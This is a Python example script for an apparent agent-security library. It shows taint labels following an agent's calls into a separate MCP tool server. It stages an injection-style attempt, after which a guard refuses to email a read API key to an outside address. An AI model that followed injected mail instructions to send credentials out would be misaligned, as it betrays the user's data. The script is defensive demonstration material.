"""The chain across processes: an agent calls a guarded MCP tool server that runs in another
process (started here over stdio), and the chain goes with every call.

- The agent's guarded client sends each call's chain token in the request's `_meta`; the
  server's guard continues the chain: its calls sit one level below the agent's, and the labels
  the agent's chain holds (here `secret`) hold there too.
- The server labels what it reads (`untrusted` mail) and the label comes back with the result,
  so the agent's own later calls answer for it.

Run: pip install "./bindings/python[mcp]" && python examples/python/mcp_two_processes.py
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import tempfile
from pathlib import Path

from mcp import Client
from mcp.client.stdio import StdioServerParameters

import agentwarrant as aw
from agentwarrant.integrations.mcp import guard_client

HERE = Path(__file__).resolve().parent

agent = aw.Identity("agent://acme/assistant", owner="alice@acme.com", ceiling=["secrets.read:*", "mail.read:*", "email.send:*"])
intent = aw.Intent(
    "triage my inbox and answer my colleague",
    scopes=["secrets.read:crm/*", "mail.read:inbox", "email.send:carol@acme.com"],
)
specs = {
    "read_secret": aw.ToolSpec("read_secret", impact="low", reads=["secret"], scopes=["secrets.read:{path}"]),
    # The server labels its results; the agent's specs need not know how.
    "read_inbox": aw.ToolSpec("read_inbox", impact="low", scopes=["mail.read:{folder}"]),
    "send_email": aw.ToolSpec(
        "send_email", impact="medium", external=True, sink=True, destination_arg="to", scopes=["email.send:{to}"], sensitive_args=["body"]
    ),
}


def approve(request: aw.ApprovalRequest) -> aw.ApproverResult:
    print(f"  (approval) {request.tool} approved by carol@acme.com")
    return request.approve("carol@acme.com")


async def main() -> None:
    guard = aw.Guard(tools=[specs["read_secret"]], approver=approve, ledger=aw.MemoryLedger())

    @guard.tool(spec=specs["read_secret"])
    def read_secret(path: str) -> str:
        return "crm-api-key-123"

    with tempfile.TemporaryDirectory() as scratch:
        server_ledger = Path(scratch) / "mail-tools.jsonl"
        server = StdioServerParameters(
            command=sys.executable,
            args=[str(HERE / "_mcp_tool_server.py")],
            env={**os.environ, "AGENT_JWKS": json.dumps(guard.jwks()), "TOOL_SERVER_LEDGER": str(server_ledger)},
        )
        async with Client(server) as client:
            tools = await guard_client(client, guard, specs=specs)
            async with guard.task(agent, intent) as task:
                read_secret("crm/api-key")  # a local tool: the chain now holds `secret`
                inbox = await tools.call_tool("read_inbox", {"folder": "inbox"})
                print(f"  read_inbox: {''.join(getattr(c, 'text', '') for c in inbox.content)[:60]!r}...")
                print(f"  the agent's chain now holds {task.chain_labels}")
                assert task.chain_labels == ["secret", "untrusted"]
                leak = await tools.call_tool("send_email", {"to": "partner@elsewhere.example", "body": "the key"})
                print(f"  send_email to partner@elsewhere.example: {'refused' if leak.is_error else 'sent'}")
                assert leak.is_error
        # The server's process has ended; its ledger shows where its calls sat in the chain.
        decided = aw.FileLedger(server_ledger).records(kind="call.decided")
        for record in decided:
            chain = record["decision"]["input"]["chain"]
            print(f"  tool server decided {record['tool']} at depth {chain['depth']} with labels {chain['labels']}")
        assert [(r["tool"], r["decision"]["input"]["chain"]["depth"]) for r in decided] == [("read_inbox", 2)]
        assert decided[0]["decision"]["input"]["chain"]["labels"] == ["secret"]
        begun = aw.FileLedger(server_ledger).records(kind="task.begun")
        assert begun[0]["detail"]["resumed_from"]["identity"] == agent.id
    print("the injected instruction was stopped: the key never left, across both processes")


if __name__ == "__main__":
    asyncio.run(main())
